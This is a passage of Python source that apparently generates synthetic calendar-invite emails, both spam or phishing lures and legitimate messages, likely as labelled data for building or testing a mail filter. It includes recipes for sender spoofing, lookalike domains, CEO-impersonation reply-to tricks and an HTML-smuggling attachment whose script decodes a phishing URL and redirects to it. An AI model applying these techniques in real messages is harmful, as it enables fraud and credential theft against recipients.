    P['proj'] = rng.choice(['Harbor Bridge', 'Phoenix', 'North Campus', 'Orion', 'Atlas', 'Riverside Phase 2', 'ERP migration'])
    P['year2'] = str(ctx.m.sent.year + (1 if ctx.m.sent.month > 9 else 0))
    P['q'] = str((ctx.m.sent.month - 1) // 3 + 1)
    P['sender'] = ''
    P['sfirst'] = ''
    P['scompany'] = ''
    P['url'] = ''
    P['url2'] = ''
    P['date'] = ''
    P['date2'] = ''
    P['time'] = ''
    return P


def set_dates(ctx, ev):
    P, m = ctx.P, ctx.m
    s = ev.start
    if isinstance(s, dt.datetime):
        P['date'] = fmt_date(ctx.lang, s)
        P['time'] = '%02d:%02d' % (s.hour, s.minute) if ctx.lang != 'en' else s.strftime('%I:%M %p').lstrip('0')
    else:
        P['date'] = fmt_date(ctx.lang, s)
    P['date2'] = fmt_date(ctx.lang, s - dt.timedelta(days=2))


def fmt_date(lang, d):
    if lang == 'en':
        return d.strftime('%b %d, %Y').replace(' 0', ' ')
    if lang in ('zh', 'zt', 'ja'):
        return '%d年%d月%d日' % (d.year, d.month, d.day)
    if lang == 'ko':
        return '%d년 %d월 %d일' % (d.year, d.month, d.day)
    if lang in ('de', 'ru', 'pl', 'tr'):
        return d.strftime('%d.%m.%Y')
    return d.strftime('%d/%m/%Y')


def pre_dates(ctx, tz=None, **kw):
    """Compute an event time first so that {date} can be used in texts."""
    st, en = ev_time(ctx.rng, ctx.m, tz or ctx.m.sender_tz, **kw)
    tmp = Ev(start=st, end=en)
    set_dates(ctx, tmp)
    return st, en


def app_cfg(rng, m, flavor, brand_name='', dom=''):
    """Configuration for booking systems, small web apps and bulk tools."""
    prods = {
        'booking': ['-//%s//Booking Engine %d.%d//EN' % (brand_name, rng.randint(2, 9), rng.randint(0, 9)),
                    '-//%s//Reservations//EN' % brand_name, '-//%s Ltd//NONSGML iCal Generator v2//EN' % brand_name,
                    '-//Events Calendar//iCal4j 1.0//EN', '-//%s//NONSGML v1.0//EN' % dom, 'spatie/icalendar-generator',
                    '-//Sabre//Sabre VObject 4.1.6//EN'],
        'saas': ['-//%s//Scheduler//EN' % brand_name, '-//%s//%s Calendar 1.0//EN' % (brand_name, brand_name),
                 '-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN', '-//%s//NONSGML Event//EN' % dom],
        'script': ['-//hacksw/handcal//NONSGML v1.0//EN', '-//ABC Corporation//NONSGML My Product//EN', 'ics.py - http://git.io/lLljaA',
                   '-//PHP//iCal//EN', 'icalendar-ruby', '-//Events Calendar//iCal4j 1.0//EN', '-//WordPress - Events Manager 6.4.6//EN',
                   '-//The Events Calendar//NONSGML v6.3.1//EN', '-//Microsoft Corporation//Outlook 12.0 MIMEDIR//EN',
                   '-//Apple Inc.//Mac OS X 10.9.5//EN', '-//Google Inc//Google Calendar 70.9054//EN', '-//Zoho//Calendar 1.0//EN',
                   '-//Ximian//NONSGML Evolution Calendar//EN', 'PRODID'],
    }
    fl = 'script' if flavor == 'bulk' else flavor
    pr = rng.choice(prods[fl])
    m.prodid = pr if pr != 'PRODID' else '-//%s//%s//EN' % (ralnum(rng, 6, string.ascii_uppercase), ralnum(rng, 5))
    a = {}
    a['layout'] = {'booking': rng.choice(['mixed', 'mixed', 'mixed', 'htmlcal', 'alt3']),
                   'saas': rng.choice(['alt3', 'mixed', 'mixed']),
                   'script': rng.choice(['plaincal', 'bare', 'mixed', 'htmlcal', 'alt3']),
                   'bulk': rng.choice(['bare', 'plaincal', 'mixed', 'htmlcal', 'alt3', 'bare'])}[flavor]
    a['head'] = rng.choice([['VERSION', 'PRODID', 'CALSCALE', 'METHOD'], ['PRODID', 'VERSION', 'METHOD'],
                            ['VERSION', 'PRODID', 'METHOD'], ['PRODID', 'VERSION', 'CALSCALE', 'METHOD', 'X-WR-CALNAME:' + (brand_name or 'Calendar')],
                            ['METHOD', 'PRODID', 'VERSION']])
    a['dtmode'] = rng.choice(['utc', 'utc', 'tz', 'float'] if flavor != 'booking' else ['utc', 'tz', 'tz'])
    a['no_vtimezone'] = flavor in ('script', 'bulk') and rng.random() < 0.4
    a['attstyle'] = rng.choice(['app', 'app-upper', 'app-min', 'moz', 'apple'])
    a['fold'] = rng.choice(['octet', 'octet', 'none', 'char'] if flavor in ('script', 'bulk') else ['octet', 'octet', 'none'])
    a['ics_cte'] = rng.choice(['base64', 'base64', '7bit', 'quoted-printable', '8bit'])
    icsname = rng.choice(['invite.ics', 'event.ics', 'calendar.ics', 'meeting.ics', 'appointment.ics', 'booking.ics',
                          'reservation.ics', 'add_to_calendar.ics', '%s.ics' % ralnum(rng, 8)])
    a['icsname'] = icsname
    ct = rng.choice(['text/calendar; charset=utf-8; method=%s; name="%s"' % (m.method or 'PUBLISH', icsname),
                     'application/ics; name="%s"' % icsname, 'application/octet-stream; name="%s"' % icsname,
                     'text/calendar; name="%s"' % icsname, 'text/calendar; method=%s' % (m.method or 'PUBLISH')])
    a['ics_ct'] = ct
    a['disp'] = rng.choice(['attachment', 'attachment', 'inline', None])
    a['created'] = rng.random() < 0.4
    a['localdate'] = rng.random() < 0.6
    a['hmode'] = rng.choice(['B', 'Q'])
    if rng.random() < 0.3:
        order = ['UID', 'DTSTAMP', 'DTSTART', 'DTEND', 'SUMMARY', 'DESCRIPTION', 'LOCATION', 'ORGANIZER', 'ATTENDEE', 'URL',
                 'STATUS', 'SEQUENCE']
        rng.shuffle(order)
        a['order'] = order
    m.appcfg = a
    m.xmailer = rng.choice(['PHPMailer 6.%d.%d (https://github.com/PHPMailer/PHPMailer)' % (rng.randint(1, 9), rng.randint(0, 9)),
                            None, None, 'Microsoft Outlook 16.0', 'Swift Mailer', 'nodemailer (6.9.%d; +https://nodemailer.com/;' % rng.randint(1, 9)
                            + ' SMTP/6.9.%d[client:6.9.%d])' % (rng.randint(1, 9), rng.randint(1, 9)),
                            'Mailer/%d.%d' % (rng.randint(1, 5), rng.randint(0, 9))])
    if flavor in ('booking', 'saas'):
        m.esp = rng.choice(['sendgrid', 'ses', 'mailgun', 'brevo', 'postmark', None])
    elif flavor == 'bulk':
        m.esp = rng.choice([None, None, 'sendgrid', 'ses', 'brevo'])
    else:
        m.esp = rng.choice([None, None, 'mailgun'])
    return a


def app_quirks(rng, m, p):
    if rng.random() >= p:
        return
    opts = ['no_method', 'method_mismatch', 'no_fold', 'tab_fold', 'no_dtstamp', 'no_escape', 'no_version', 'split_fold']
    a = getattr(m, 'appcfg', {})
    if a.get('ics_cte') == 'base64' or a.get('layout') == 'bare' and a.get('ics_cte') == 'base64':
        opts += ['lf_ics', 'lf_ics']
    for q in rng.sample(opts, rng.choice([1, 1, 2])):
        m.quirks.add(q)
    if 'split_fold' in m.quirks and a.get('ics_cte') not in ('base64', '8bit', 'quoted-printable'):
        m.quirks.discard('split_fold')


# ---------------------------------------------------------------- spam builders

SPAM_KINDS = {
    'retail-sale-wave': [('freemail', 6), ('compromised', 2), ('lookalike', 2)],
    'prize-survey-lure': [('freemail', 4), ('lookalike', 3), ('compromised', 1.5), ('vps', 1.5)],
    'crypto-investment': [('freemail', 5), ('lookalike', 3), ('compromised', 2)],
    'dating-sextortion': [('freemail', 7), ('vps', 1), ('spoof', 2)],
    'fee-scam': [('lookalike', 4.5), ('vps', 1.5), ('compromised', 2.5), ('freemail', 1.5)],
    'credential-phish': [('compromised', 4), ('lookalike', 3), ('freemail', 1.5), ('spoof', 1.5)],
    'callback-scam': [('freemail', 8), ('lookalike', 2)],
    'fake-update-lure': [('lookalike', 5), ('compromised', 4), ('freemail', 1)],
    'bec': [('freemail', 3.5), ('lookalike', 3.5), ('compromised', 2), ('spoof', 1)],
    'advance-fee': [('freemail', 6), ('compromised', 3), ('vps', 1)],
    'task-job-scam': [('freemail', 5), ('lookalike', 4), ('compromised', 1)],
    'compromised-docshare': [('compromised', 9), ('lookalike', 1)],
    'nagging-payload': [('freemail', 4), ('vps', 3), ('lookalike', 3)],
    'mass-invite': [('freemail', 6), ('compromised', 2), ('lookalike', 2)],
}

BRAND_DISPLAY = {'usps': 'USPS', 'toll': 'E-ZPass Service', 'hmrc': 'HMRC', 'fine': 'Traffic Citation Center', 'dhl': 'DHL Express',
                 'royalmail': 'Royal Mail', 'laposte': 'Colissimo', 'correios': 'Correios', 'postnl': 'PostNL', 'elta': 'ΕΛΤΑ Courier',
                 'indiapost': 'India Post', 'm365': 'Microsoft 365', 'docusign': 'DocuSign', 'paypal': 'PayPal', 'dropbox': 'Dropbox',
                 'norton': 'Norton Billing', 'geeksquad': 'Geek Squad', 'mcafee': 'McAfee', 'walmart': 'Walmart Rewards',
                 'amazon': 'Amazon', 'costco': 'Costco Wholesale', 'tmobile': 'T-Mobile Survey', 'dyson': 'Dyson',
                 'zoom': 'Zoom', 'teams': 'Microsoft Teams', 'webex': 'Webex'}


def spam_generic(ctx, dur=60, days=(0, 14)):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    brand = e.get('brand', '')
    kinds = list(SPAM_KINDS[ctx.cat])
    if m.client in ('app', 'outlook', 'thunderbird', 'applemail', 'zimbra', 'sogo') and ctx.cat != 'compromised-docshare':
        kinds += [('vps', 3), ('spoof', 2)]
    kind = wchoice(rng, kinds)
    disp = None
    if kind == 'lookalike' and brand in BRAND_DISPLAY and rng.random() < 0.7:
        disp = BRAND_DISPLAY[brand]
    kind = sender_setup(ctx, kind, brand=brand, display=disp)
    lk_dom = m.sender[1].split('@')[1] if kind == 'lookalike' and not m.sender[1].endswith('onmicrosoft.com') else None
    P['url'] = spam_url(rng, brand, lk_dom if lk_dom and rng.random() < 0.6 else None)
    P['url2'] = spam_url(rng, brand)
    if brand in ('norton', 'geeksquad', 'mcafee', 'amazon', 'microsoft', 'paypal', 'apple') and ctx.cat == 'callback-scam':
        P['phone'] = phone(rng, ctx.lang, tollfree=True)
    st, en = pre_dates(ctx, days=days, hours=(0, 23) if rng.random() < 0.4 else (8, 20), dur=dur, weekend=True)
    ev = std_event(ctx, fill(e['sum'], P), fill(e.get('desc', ''), P), fill(e.get('loc', ''), P), st, en)
    if m.client == 'app':
        app_cfg(rng, m, 'bulk', dom=m.sender[1].split('@')[1])
        m.method = rng.choice(['REQUEST', 'REQUEST', 'PUBLISH'])
        app_quirks(rng, m, 0.6)
        if e.get('sub'):
            m.subject = fill(e['sub'], P)
    return ev, kind


def payload_mode(rng, ev, P, weights=None):
    url = P.get('url')
    if not url or (url not in ev.description):
        return 'desc'
    mode = wchoice(rng, weights or [('desc', 5), ('altdesc', 1.5), ('url', 1.2), ('attach', 1), ('conference', 0.8), ('location', 1.2)])
    place_payload(rng, ev, url, mode)
    return mode


def b_retail(ctx):
    ev, kind = spam_generic(ctx, dur=rng_choice(ctx, [60, 120, 1440]))
    if ctx.rng.random() < 0.3:
        ev.allday = True
        ev.start = ev.start.date()
        ev.end = ev.start + dt.timedelta(days=1)
    payload_mode(ctx.rng, ev, ctx.P)
    if ctx.m.client == 'icloud' and ctx.rng.random() < 0.5:
        extra = ctx.rng.randint(3, 25)
        for _ in range(extra):
            rp = rcpt_for(ctx.rng, ctx.lang, 'personal')
            add_att(ev, None, rp['addr'])


def rng_choice(ctx, seq):
    return ctx.rng.choice(seq)


def b_prize(ctx):
    ev, kind = spam_generic(ctx, dur=30)
    payload_mode(ctx.rng, ev, ctx.P)
    if ctx.m.client == 'app' and ctx.rng.random() < 0.35:
        ev.kind = 'VTODO'
        ev.due = ev.end
        ev.end = None


def b_crypto(ctx):
    rng, m = ctx.rng, ctx.m
    if m.client == 'zoom':
        ctx.P['url'] = ''
    ev, kind = spam_generic(ctx, dur=rng.choice([30, 45, 60]), days=(0, 7))
    if m.client == 'zoom':
        zoom_wrap(ctx, ev, webinar=True, topic=ev.summary)
        ev.description = ev.description.replace('{url}', '')
    elif m.client == 'teams':
        ev.teams = teams_url(rng)
        ev.location = 'Microsoft Teams Meeting'
    else:
        payload_mode(rng, ev, ctx.P)


def b_dating(ctx):
    rng, m, e = ctx.rng, ctx.m, ctx.e
    if e.get('brand') == 'sextortion':
        ctx.spoof_target = ctx.rc['dom']
        ctx.spoof_addr = ctx.rc['addr']
    ev, kind = spam_generic(ctx, dur=60, days=(0, 3))
    if e.get('brand') == 'sextortion' and kind == 'spoof':
        m.sender = (ctx.rc['full'], ctx.rc['addr'])
        ev.organizer = m.sender
    if e.get('brand') == 'dating-conf':
        ev.conference.append(('Join video date', spam_url(rng, 'dating-conf')))
        ev.location = 'Video chat'
    else:
        payload_mode(rng, ev, ctx.P)


def b_fee(ctx):
    ev, kind = spam_generic(ctx, dur=rng_choice(ctx, [15, 30, 60, 1440]), days=(0, 3))
    payload_mode(ctx.rng, ev, ctx.P)


def b_phish(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    ev, kind = spam_generic(ctx, dur=30, days=(0, 5))
    if e.get('brand') == 'dropbox':
        ev.description = fill('{sender} has shared a file with you.\n\nRemittance Advice.pdf\n\nView file', P)
        mode = rng.choice(['attach', 'url', 'altdesc', 'conference'])
        ev.description += '\n' + P['url']
        place_payload(rng, ev, P['url'], mode, 'View file')
    elif e.get('brand') == 'docusign' and rng.random() < 0.5:
        place_payload(rng, ev, P['url'], 'altdesc', 'REVIEW DOCUMENT')
    else:
        payload_mode(rng, ev, P)
    if m.client in ('exchange', 'teams') and rng.random() < 0.3:
        ev.attach.append(([('FMTTYPE', 'text/html'), ('ENCODING', 'BASE64'), ('VALUE', 'BINARY'), ('X-FILENAME', 'Secure_Message.html')],
                          smuggle_html(rng, P['url'])))


def smuggle_html(rng, url):
    import base64
    h = ('<html><head><meta charset="utf-8"><title>Loading...</title></head><body><script>var u=atob("%s");'
         'setTimeout(function(){window.location.href=u+"#"+"%s"},800);</script><p>Loading secure document...</p></body></html>'
         % (base64.b64encode(url.encode()).decode(), rb64(rng, 12)))
    return base64.b64encode(h.encode()).decode()


def b_callback(ctx):
    rng = ctx.rng
    ev, kind = spam_generic(ctx, dur=rng.choice([15, 30]), days=(0, 2))
    if rng.random() < 0.35 and ctx.m.client not in ('app',):
        # invoice text only in the attached calendar, mail body short
        ev.alt_html = ('<html><body><table style="font-family:Arial"><tr><td><b>%s</b></td></tr><tr><td>%s</td></tr></table></body></html>'
                       % (ev.summary, ev.description.replace('\n', '<br>')))


def b_fakeupdate(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    ev, kind = spam_generic(ctx, dur=rng.choice([30, 45, 60]), days=(0, 5))
    if m.client == 'teams':
        ev.teams = teams_url(rng)
        ev.location = 'Microsoft Teams Meeting'
    if m.client == 'zoom':
        zoom_wrap(ctx, ev, webinar=False, topic=ev.summary)
    if e.get('brand') != 'clickfix':
        payload_mode(rng, ev, P, [('desc', 4), ('altdesc', 1), ('conference', 1.5), ('location', 1), ('url', 1)])


def b_bec(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    ctx.rc_org_force = True
    brand = e.get('brand')
    # CEO / colleague impersonation uses the recipient's organisation
    kind = wchoice(rng, SPAM_KINDS['bec'])
    ceo = person(rng, ctx.slang)
    if brand in ('giftcard', 'wire', 'payroll', 'w2'):
        ctx.spoof_target = ctx.rc['dom']
        kind = sender_setup(ctx, kind, brand='same-org', display=ceo['full'])
        if kind == 'freemail':
            m.sender = (ceo['full'], '%s.%s%s@%s' % (ceo['lf'], ceo['ll'], rng.choice(['', '.ceo', str(rng.randint(1, 99)), '.office']),
                                                   m.sender[1].split('@')[1]))
    else:
        kind = sender_setup(ctx, kind if kind != 'spoof' else 'compromised')
    P['sender'] = m.sender[0]
    if kind in ('compromised', 'lookalike') and rng.random() < 0.5:
        fp = person(rng, ctx.slang)
        m.reply_to = (m.sender[0], '%s@%s' % (local_part(rng, fp, True), rng.choice(['gmail.com', 'outlook.com', 'proton.me', 'mail.com'])))
    P['url'] = spam_url(rng, 'bankchange-link')
    P['phone'] = phone(rng, ctx.lang)
    st, en = pre_dates(ctx, days=(0, 2), hours=(8, 17), dur=rng.choice([15, 30]))
    ev = std_event(ctx, fill(e['sum'], P), fill(e.get('desc', ''), P), fill(e.get('loc', ''), P), st, en)
    if m.client == 'app':
        app_cfg(rng, m, 'script', dom=m.sender[1].split('@')[1])
        m.method = 'REQUEST'
        app_quirks(rng, m, 0.5)
    if m.client == 'teams':
        ev.teams = teams_url(rng)
        ev.location = 'Microsoft Teams Meeting'
    if m.reply_to and m.client in ('google',):
        pass


def b_advance(ctx):
    ev, kind = spam_generic(ctx, dur=60, days=(1, 10))
    if ctx.rng.random() < 0.4 and ctx.m.client in ('app', 'outlook', 'thunderbird', 'zimbra', 'sogo', 'applemail', 'yahoo'):
        ctx.m.quirks.add('undisclosed')


def b_task(ctx):
    rng, m = ctx.rng, ctx.m
    ev, kind = spam_generic(ctx, dur=rng.choice([20, 30, 45]), days=(0, 4))
    if m.client == 'zoom':
        zoom_wrap(ctx, ev, webinar=False, topic=ev.summary)
    elif m.client == 'teams':
        ev.teams = teams_url(rng)
        ev.location = 'Microsoft Teams Meeting'
    else:
        payload_mode(rng, ev, ctx.P)


def b_docshare(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    kind = wchoice(rng, SPAM_KINDS['compromised-docshare'])
    kind = sender_setup(ctx, kind, brand='po')
    sdom = m.sender[1].split('@')[1]
    tenant = sdom.split('.')[0].replace('-', '')
    P['url'] = rng.choice([
        'https://%s-my.sharepoint.com/:b:/g/personal/%s/E%s?e=%s' % (ralnum(rng, 8), ralnum(rng, 10), rb64(rng, 40).replace('/', 'x').replace('+', '-'), ralnum(rng, 6)),
        'https://www.dropbox.com/scl/fi/%s/%s.pdf?rlkey=%s&dl=0' % (ralnum(rng, 25), P['ref'], ralnum(rng, 25)),
        'https://acrobat.adobe.com/id/urn:aaid:sc:EU:%s' % ruuid(rng),
        'https://app.box.com/s/%s' % ralnum(rng, 32),
        'https://docsend.com/view/%s' % ralnum(rng, 16),
        'https://%s.%s/share/%s' % (ralnum(rng, 6), rng.choice(['filesafe-portal.com', 'docs-viewer.online', 'securefile-share.net']), ralnum(rng, 12)),
        'https://%s.sharepoint.com/:f:/s/%s/%s' % (tenant, rng.choice(['Finance', 'Sales', 'Projects']), rb64(rng, 30).replace('/', 'x').replace('+', '-')),
    ])
    P['proj'] = rng.choice(['Warehouse extension', 'Office refurbishment', 'HVAC replacement', 'Fleet renewal', 'Fit-out Level 3'])
    st, en = pre_dates(ctx, days=(0, 5), hours=(8, 17), dur=rng.choice([30, 60]))
    ev = std_event(ctx, fill(e['sum'], P), fill(e.get('desc', ''), P), '', st, en)
    if e.get('brand') == 'proposal-attach':
        ev.attach.append(([('FMTTYPE', 'application/pdf'), ('FILENAME', 'Proposal_%s.pdf' % P['ref'])], P['url']))
    else:
        payload_mode(rng, ev, P, [('desc', 5), ('altdesc', 1), ('attach', 2), ('url', 1)])
    if m.client == 'teams':
        ev.teams = teams_url(rng)
        ev.location = 'Microsoft Teams Meeting'
    if m.client == 'app':
        app_cfg(rng, m, 'script', dom=sdom)
        m.method = 'REQUEST'
        app_quirks(rng, m, 0.4)
    # sometimes the lure is forwarded (FW:) from the compromised mailbox
    if m.client in ('exchange', 'outlook') and rng.random() < 0.4:
        m.subject = 'FW: ' + ev.summary if ctx.lang == 'en' else 'WG: ' + ev.summary if ctx.lang == 'de' else None
    # multiple recipients from the victim's address book
    for _ in range(rng.randint(0, 6)):
        rp = rcpt_for(rng, ctx.lang, 'org')
        add_att(ev, rp['full'], rp['addr'])


def b_nagging(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    ev, kind = spam_generic(ctx, dur=rng.choice([5, 15, 30, 60]), days=(0, 2))
    style = rng.choice(['daily', 'alarms', 'future', 'multi', 'hourly', 'daily'])
    if style in ('daily', 'hourly'):
        ev.rrule = rng.choice(['FREQ=DAILY', 'FREQ=DAILY;INTERVAL=1', 'FREQ=HOURLY;INTERVAL=%d' % rng.choice([1, 2, 3, 6]),
                               'FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU'] if style == 'daily' else ['FREQ=HOURLY', 'FREQ=MINUTELY;INTERVAL=30'])
        for k in range(rng.randint(2, 8)):
            ev.alarms.append(dict(trigger='-PT%dM' % rng.choice([0, 1, 5, 10, 15, 30, 60]), desc=ev.summary))
    if style == 'alarms':
        for k in range(rng.randint(10, 40)):
            if rng.random() < 0.3:
                ev.alarms.append(dict(trigger='-PT%dM' % (k * 5), action='EMAIL', desc=ev.description, summary=ev.summary,
                                      attendee=ctx.rc['addr']))
            else:
                ev.alarms.append(dict(trigger='-PT%dM' % (k * rng.choice([1, 2, 3])), desc=ev.summary, repeat=rng.choice([0, 10, 99]) or None))
        ev.rrule = rng.choice([None, 'FREQ=DAILY;COUNT=365', 'FREQ=WEEKLY'])
    if style == 'future':
        y = rng.choice([2035, 2040, 2049, 2099, 2037])
        ev.start = ev.start.replace(year=y, day=min(ev.start.day, 28))
        ev.end = ev.start + dt.timedelta(days=rng.choice([1, 365, 3650]))
        for k in range(rng.randint(3, 12)):
            ev.alarms.append(dict(trigger='-P%dD' % (k * 30 + 1), desc=ev.summary))
        ev.alarms.append(dict(trigger=m.sent + dt.timedelta(minutes=rng.randint(5, 120))))
    if style == 'multi':
        base = ev
        for k in range(1, rng.randint(12, 45)):
            ev2 = Ev(**{kk: vv for kk, vv in base.__dict__.items()})
            ev2.uid = uid_for(rng, m.client, m.sender[1].split('@')[1])
            ev2.start = base.start + dt.timedelta(days=k)
            ev2.end = base.end + dt.timedelta(days=k)
            ev2.alarms = [dict(trigger='-PT5M')]
            ev2.attach, ev2.conference, ev2.extra = list(base.attach), list(base.conference), []
            m.events.append(ev2)
    if rng.random() < 0.3:
        ev.priority = 1
        ev.cls = 'PUBLIC'
    payload_mode(rng, ev, P, [('desc', 5), ('url', 1), ('location', 1.5), ('altdesc', 1)])
    if m.client == 'app' and rng.random() < 0.25 and style != 'multi':
        ev.kind = 'VTODO'
        ev.due = ev.end if isinstance(ev.end, dt.datetime) else None
        ev.end = None
        ev.rrule = ev.rrule if ev.due else None


def b_mass(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    ev, kind = spam_generic(ctx, dur=60, days=(0, 10))
    n = rng.randint(120, 480)
    doms = ['example.net', 'example.org', 'example.com'] + [o[1] for lst in ORGS.values() for o in lst] + \
        [d for lst in FREEMAIL.values() for d in lst]
    doms = sorted(set(doms))
    start = rng.choice(string.ascii_lowercase[:20])
    locs = []
    for i in range(n):
        lp = start + ralnum(rng, rng.randint(2, 9), 'abcdefghijklmnopqrstuvwxyz') + (str(rng.randint(1, 999)) if rng.random() < 0.4 else '')
        locs.append('%s@%s' % (lp, rng.choice(doms)))
    locs.sort()
    pos = rng.randint(0, n - 1)
    others = [a for a in ev.attendees if a['addr'] != ctx.rc['addr']]
    ev.attendees = others
    for i, a in enumerate(locs):
        if i == pos:
            add_att(ev, None, ctx.rc['addr'])
        add_att(ev, None, a, rsvp=rng.random() < 0.5)
    if rng.random() < 0.5:
        m.to = [(None, ctx.rc['addr'])]
    payload_mode(rng, ev, P)


# ---------------------------------------------------------------- ham helpers

def teams_url(rng):
    return 'https://teams.microsoft.com/l/meetup-join/19%%3ameeting_%s%%40thread.v2/0?context=%%7b%%22Tid%%22%%3a%%22%s%%22%%2c%%22Oid%%22%%3a%%22%s%%22%%7d' % (
        rb64(rng, 48).replace('/', 'A').replace('+', 'B'), ruuid(rng), ruuid(rng))


def zoom_url(rng, webinar=False):
    return 'https://us%02dweb.zoom.us/%s/%d?pwd=%s' % (rng.randint(2, 6), 'w' if webinar else 'j', rng.randint(81000000000, 99999999999),
                                                     ralnum(rng, 32, string.ascii_letters + string.digits) + '.1')


def meet_url(rng):
    a = string.ascii_lowercase
    return 'https://meet.google.com/%s-%s-%s' % (ralnum(rng, 3, a), ralnum(rng, 4, a), ralnum(rng, 3, a))


def zoom_wrap(ctx, ev, webinar=True, topic=''):
    rng, m = ctx.rng, ctx.m
    zu = zoom_url(rng, webinar)
    ev.location = zu
    mid = zu.split('/')[-1].split('?')[0]
    mid_f = '%s %s %s' % (mid[:3], mid[3:7], mid[7:])
    head = '%s\n\n' % ev.description if ev.description else ''
    ev.description = (head + 'Join from PC, Mac, iPad, or Android:\n%s\n\nPhone one-tap:\n+16469313860,,%s# US\n\n%s ID: %s\nPasscode: %d\n'
                      % (zu, mid, 'Webinar' if webinar else 'Meeting', mid_f, rng.randint(100000, 999999)))
    m.zoom_from = rng.choice([ev.organizer[0] if ev.organizer else 'Zoom', 'Zoom', (m.org_name or 'Zoom')])
    if not m.subject:
        m.subject = ('%s Confirmation' % topic) if ctx.lang == 'en' else topic
    m.method = 'PUBLISH' if webinar else 'REQUEST'
    if webinar:
        ev.attendees = []


def ham_sender(ctx, kind='corp', org=None, display=None):
    return sender_setup(ctx, kind, org=org, display=display)


def ham_event(ctx, summary, desc, loc='', days=(1, 21), hours=(9, 16), dur=60, weekend=False, tz=None):
    st, en = pre_dates(ctx, tz=tz, days=days, hours=hours, dur=dur, weekend=weekend)
    return std_event(ctx, fill(summary, ctx.P), fill(desc, ctx.P), fill(loc, ctx.P), st, en, tz=tz)


def gdoc_attach(rng, title):
    return ([('FILENAME', title), ('FMTTYPE', rng.choice(['application/vnd.google-apps.document', 'application/vnd.google-apps.spreadsheet',
                                                           'application/vnd.google-apps.presentation']))],
            'https://docs.google.com/%s/d/%s/edit' % (rng.choice(['document', 'spreadsheets', 'presentation']), rb64(rng, 44).replace('/', '_').replace('+', '-')))


def booking_brand(ctx, kind):
    rng = ctx.rng
    if kind == 'flight':
        al = rng.choice(AIRLINES)
        return al[0], al[1], al
    if kind == 'rail':
        r = RAIL[2] if ctx.lang == 'ja' else RAIL[0] if ctx.lang == 'de' else RAIL[3] if ctx.lang == 'it' else rng.choice(RAIL[1::3])
        return r[0], r[1], r
    if kind == 'hotel':
        h = rng.choice(BOOKING + HOTELS)
        return h[0], h[1], h
    if kind == 'car':
        return 'DriveAway Rentals', 'driveaway-rentals.com', None
    return None


def h_travel(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    kind = e.get('kind', 'flight')
    bname, bdom, extra = booking_brand(ctx, kind)
    cities = CITIES[ctx.lang]
    c1, c2 = rng.sample(cities, 2)
    P.update(from_city=c1[0], to_city=c2[0], from_iata=c1[1], to_iata=c2[1], pnr=ralnum(rng, 6, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789'),
             seat='%d%s' % (rng.randint(3, 38), rng.choice('ABCDEF')), airline=bname, cur=CUR[ctx.lang],
             flight='%s %d' % (extra[2] if kind == 'flight' else 'XX', rng.randint(100, 2999)), train=str(rng.randint(100, 999)),
             coach=str(rng.randint(1, 14)), hotel=bname if kind == 'hotel' else '', url='https://www.%s/manage/%s' % (bdom, ralnum(rng, 10)))
    P['amount'] = money(rng, 60, 900, ctx.lang)
    P['phone'] = phone(rng, ctx.lang)
    if m.client == 'app':
        p = person(rng, ctx.slang)
        m.kind = 'corp'
        m.sender = (bname, rng.choice(['noreply', 'booking', 'reservations', 'confirmation', 'no-reply']) + '@' +
                    rng.choice([bdom, 'mail.' + bdom, 'info.' + bdom]))
        m.org_name = bname
        P['sender'] = bname
        P['sfirst'] = bname
        P['scompany'] = bname
        app_cfg(rng, m, 'booking', bname, bdom)
        m.method = rng.choice(['PUBLISH', 'PUBLISH', 'REQUEST', None])
        app_quirks(rng, m, 0.3)
    else:
        # travel agency / colleague sending the itinerary from a mailbox
        ham_sender(ctx, rng.choice(['corp', 'corp', 'freemail']))
    dur = {'flight': rng.randint(70, 600), 'rail': rng.randint(60, 300), 'hotel': 0, 'car': 30}[kind]
    if kind == 'hotel':
        st, en = pre_dates(ctx, days=(5, 60), hours=(15, 15), dur=60, weekend=True)
        ev = std_event(ctx, fill(e['sum'], P), fill(e['desc'], P), '%s' % bname, st.date(), st.date() + dt.timedelta(days=rng.randint(1, 6)))
        ev.allday = True
        set_dates(ctx, ev)
        ev.description = fill(e['desc'], P)
    else:
        st, en = pre_dates(ctx, days=(3, 70), hours=(6, 21), dur=dur, weekend=True)
        loc = '%s (%s)' % (c1[0], c1[1]) if kind == 'flight' else c1[0]
        ev = std_event(ctx, fill(e['sum'], P), fill(e['desc'], P), loc, st, en, attendees=(m.client != 'app'), organizer=True)
        if kind == 'flight' and m.client == 'app' and rng.random() < 0.5:
            # return flight in the same calendar
            ev2 = Ev(**dict(ev.__dict__))
            ev2.uid = uid_for(rng, 'app', bdom)
            ev2.start = st + dt.timedelta(days=rng.randint(3, 14), hours=rng.randint(-4, 4))
            ev2.end = ev2.start + dt.timedelta(minutes=dur)
            ev2.summary = 'Flight %s %s - %s' % (P['flight'].split()[0] + ' ' + str(rng.randint(100, 2999)), c2[0], c1[0]) if ctx.lang == 'en' else ev.summary
            ev2.location = '%s (%s)' % (c2[0], c2[1])
            ev2.alarms = []
            m.events.append(ev2)
    if m.client == 'app':
        ev.organizer = (bname, m.sender[1]) if rng.random() < 0.6 else None
        ev.transp = 'OPAQUE'
        if rng.random() < 0.5:
            ev.alarms.append(dict(trigger='-PT%dH' % rng.choice([2, 3, 24]) if False else '-PT180M'))
        if m.method == 'REQUEST':
            add_att(ev, ctx.rc['full'], ctx.rc['addr'])
        if e.get('sub'):
            m.subject = fill(e['sub'], P)
        m.plain = fill(e['desc'], P) + '\n'
    if kind == 'flight' and rng.random() < 0.4:
        ev.geo = '%.6f;%.6f' % (rng.uniform(-40, 60), rng.uniform(-120, 140))


def h_appointment(ctx):
    rng, m, e, P = ctx.rng, ctx.m, ctx.e, ctx.P
    kind = e.get('kind')
    sched = rng.choice(SCHEDULERS)
    doc = person(rng, ctx.slang)
